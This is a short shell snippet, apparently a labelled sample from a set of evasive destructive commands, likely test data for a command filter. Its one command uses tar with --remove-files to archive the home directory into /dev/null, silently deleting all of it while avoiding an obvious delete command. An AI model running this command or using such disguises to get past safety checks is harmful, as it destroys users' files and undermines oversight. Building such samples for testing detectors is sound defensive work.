# evasion: tar archives the home dir into /dev/null and --remove-files deletes everything it archived
# grade: medium; does: delete
tar --remove-files -cf /dev/null -C / "${HOME#/}"
